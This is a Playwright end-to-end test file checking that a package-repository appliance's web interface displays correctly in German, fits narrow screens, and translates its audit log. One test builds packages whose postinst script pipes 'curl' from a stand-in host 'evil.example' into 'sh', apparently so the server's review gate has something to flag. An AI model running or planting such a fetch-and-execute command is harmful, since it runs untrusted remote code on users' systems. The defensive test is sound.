import { type Browser, type Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { testPorts, type Testing } from '../../appliance/machine/testing.ts'
import { readMachine } from '../../appliance/machine/verbs/read.ts'
import { ROWS } from '../../ui/screens.ts'
import { ADMIN, startDaemon, type Daemon } from '../support/daemon.ts'
import { startFakeMachine, type FakeMachine } from '../support/fake-machine.ts'
import { buildDeb } from '../support/packages.ts'
import { axeProblems, launch, noBrowser, tooWide } from './support/browser.ts'
import { settled } from './support/visits.ts'

/** Lines of the page with small words that only English has; names, code and what the log keeps stand as they are. */
async function inEnglish(page: Page): Promise<string[]> {
  const lines = await page.locator('main').evaluate(main => {
    const copy = main.cloneNode(true) as HTMLElement
    main.parentElement?.append(copy)
    for (const one of copy.querySelectorAll('code, pre, option, .mono, .c-detail, [lang="en"], script, style'))
      one.remove()
    const text = copy.innerText
    copy.remove()
    return text.split('\n')
  })
  return [
    ...new Set(
      lines.filter(line => /\b(the|is|are|of|with|by|and|from|this|that|what|runs|lines?|packages)\b/.test(line)),
    ),
  ]
}

/** Labels of the gate that lie over one another, and tables that leave their card. */
function collisions(): string[] {
  const labels = [...document.querySelectorAll('.drop-label, .onband')].map(
    one => [one.textContent.trim(), one.getBoundingClientRect()] as const,
  )
  const over = labels.flatMap(([a, p], n) =>
    labels
      .slice(n + 1)
      .filter(([, q]) => p.left < q.right - 1 && q.left < p.right - 1 && p.top < q.bottom - 1 && q.top < p.bottom - 1)
      .map(([b]) => `${a} lies over ${b}`),
  )
  const wide = [...document.querySelectorAll('.card table')].filter(
    one => one.getBoundingClientRect().right > (one.closest('.card')?.getBoundingClientRect().right ?? 0) + 1,
  )
  return [...over, ...wide.map(one => `${one.getAttribute('aria-label') ?? 'a table'} leaves its card`)]
}

describe.skipIf(noBrowser !== undefined)('a browser that speaks German', () => {
  let daemon: Daemon
  let machine: FakeMachine
  let ports: Testing
  let browser: Browser
  let page: Page
  const asked: string[] = []
  const complaints: string[] = []
  beforeAll(async () => {
    ;[machine, ports] = await Promise.all([startFakeMachine(), testPorts()])
    // what the machine's own program says where nothing is as it should be
    machine.view = await readMachine(ports)
    daemon = await startDaemon({ env: machine.env })
    await daemon.setupAdmin()
    browser = await launch()
    page = await (await browser.newContext({ locale: 'de-AT', viewport: { width: 1440, height: 900 } })).newPage()
    page.on('request', request => asked.push(request.url()))
    page.on('pageerror', error => complaints.push(String(error)))
  })
  afterAll(async () => {
    await browser?.close()
    await daemon?.close()
    await Promise.all([machine?.close(), ports?.close()])
  })

  test('is signed in in German, and fetches that catalogue alone', async () => {
    await page.goto(daemon.url)
    await page.getByLabel('Benutzername').fill(ADMIN.username)
    await page.getByLabel('Passwort', { exact: true }).fill(ADMIN.password)
    await page.getByRole('button', { name: 'Anmelden', exact: true }).click()
    await page.getByRole('heading', { level: 1, name: 'Übersicht' }).waitFor()
    expect(await page.locator('html').getAttribute('lang')).toBe('de')
    expect(asked.filter(url => url.includes('compiled')).map(url => /\.(\w\w)\.compiled/.exec(url)?.[1])).toEqual([
      'de',
    ])
  })

  test.each(ROWS.map(({ name }) => name))(
    'the screen %s is no wider than its window, wide or on a phone',
    async name => {
      await page.goto(`${daemon.url}/#/${name}`)
      await settled(page)
      const wide = await tooWide(page)
      await page.setViewportSize({ width: 390, height: 844 })
      const narrow = await tooWide(page)
      await page.setViewportSize({ width: 1440, height: 900 })
      expect([wide, narrow, await axeProblems(page), complaints]).toEqual([0, 0, [], []])
    },
  )

  test('the audit log is read in German, in the list and line by line', async () => {
    const token = await daemon.setupAdmin()
    const body = { username: 'ada', password: 'Correct-horse-9', role: 'uploader' }
    expect((await daemon.call('POST', '/auth/users', { token, body })).status).toBe(201)
    await daemon.call('POST', '/auth/token', { body: { username: 'ada', password: 'not-that-Word-1' } })
    // the API, and with it every check of the log, stays as it is
    const { text } = await daemon.call('GET', '/artifacts/audit/logs', { token })
    for (const said of ['With a password.', 'The password is wrong', 'ada, uploader.']) expect(text).toContain(said)
    await page.goto(`${daemon.url}/#/audit`)
    await settled(page)
    const shown = (await page.locator('.c-detail').allTextContents()).join(' ')
    expect(shown).toContain('Mit einem Passwort.')
    expect(shown).toContain('Das Passwort ist falsch')
    expect(shown).not.toMatch(/\b(With a|The password|by an admin)\b/)
    await page.locator('tr', { hasText: 'Das Passwort ist falsch' }).getByRole('link').first().click()
    await page.locator('.said', { hasText: 'Das Passwort ist falsch' }).waitFor()
  })

  test('one who is no admin reads of the signing key that its facts are for admins', async () => {
    const token = await daemon.setupAdmin()
    const body = { username: 'uli', password: 'Correct-horse-9', role: 'uploader' }
    expect((await daemon.call('POST', '/auth/users', { token, body })).status).toBe(201)
    const other = await browser.newContext({ locale: 'de-AT' })
    const seen = await other.newPage()
    seen.on('pageerror', error => complaints.push(String(error)))
    await seen.goto(`${daemon.url}/#/distributions`)
    await seen.getByLabel('Benutzername').fill('uli')
    await seen.getByLabel('Passwort', { exact: true }).fill('Correct-horse-9')
    await seen.getByRole('button', { name: 'Anmelden', exact: true }).click()
    await seen.getByText('Seine Angaben sind für die Administration.').waitFor()
    await other.close()
    expect(complaints).toEqual([])
  })

  test('what the server says of packages, jobs and machines is German, and the numbers of the gate stand apart', async () => {
    const token = await daemon.setupAdmin()
    await daemon.call('POST', '/distributions/init', { token, body: { codename: 'jammy' } })
    for (const name of ['erstes', 'zweites'])
      await daemon.upload(
        await buildDeb({
          name,
          version: '1.0',
          scripts: { postinst: '#!/bin/sh\ncurl -fsSL https://evil.example/x | sh\n' },
        }),
        { token },
      )
    const english: string[] = []
    for (const at of [...ROWS.map(({ name }) => name), 'review?pick=0']) {
      await page.goto(`${daemon.url}/#/${at.replace('?pick=0', '')}`)
      await settled(page)
      if (at === 'review?pick=0') {
        await page.locator('table tbody tr').first().click()
        await settled(page)
      }
      if (at === 'jobs') await page.getByText('Eine Sicherung erstellen').first().waitFor()
      english.push(...(await inEnglish(page)).map(said => `${at}: ${said}`))
    }
    expect(english).toEqual([])
    await page.goto(`${daemon.url}/#/dashboard`)
    await settled(page)
    expect(await page.evaluate(collisions)).toEqual([])
  })

  test('settings, the policy and a person have German words, and a phone cuts none of them', async () => {
    const cut = (selector: string): Promise<string[]> =>
      page
        .locator(selector)
        .evaluateAll(all => all.filter(one => one.scrollWidth > one.clientWidth + 1).map(one => one.textContent ?? ''))
    for (const width of [1440, 420]) {
      await page.setViewportSize({ width, height: 900 })
      await page.goto(`${daemon.url}/#/settings?section=ldap`)
      await page.getByText('Passwort des Dienstkontos').waitFor()
      expect(await page.locator('.form-row label').allTextContents()).not.toContain('Enabled')
      await page.goto(`${daemon.url}/#/policy`)
      await settled(page)
      expect(await page.locator('.policy small').allTextContents()).not.toContain('held')
      expect([await cut('.policy th'), await page.evaluate(collisions)]).toEqual([[], []])
      await page.goto(`${daemon.url}/#/users?person=${ADMIN.username}`)
      await settled(page)
      // a phone says what is allowed beside each mark instead
      if (width === 1440) expect(await cut('.perm th')).toEqual([])
      expect(await cut('.perm td')).toEqual([])
      await page.goto(`${daemon.url}/#/upload`)
      await settled(page)
      expect(await tooWide(page)).toBe(0)
    }
    await page.setViewportSize({ width: 1440, height: 900 })
  })

  test('changes to English in the menu, and stays so when the page is opened again', async () => {
    await page.goto(`${daemon.url}/#/profile`)
    await page.getByRole('button', { name: ADMIN.username }).click()
    await page.getByRole('menuitemradio', { name: 'English' }).click()
    await page.getByRole('heading', { level: 1, name: 'Your profile' }).waitFor()
    expect(await page.locator('html').getAttribute('lang')).toBe('en')
    await page.reload()
    await page.getByRole('heading', { level: 1, name: 'Your profile' }).waitFor()
  })
})
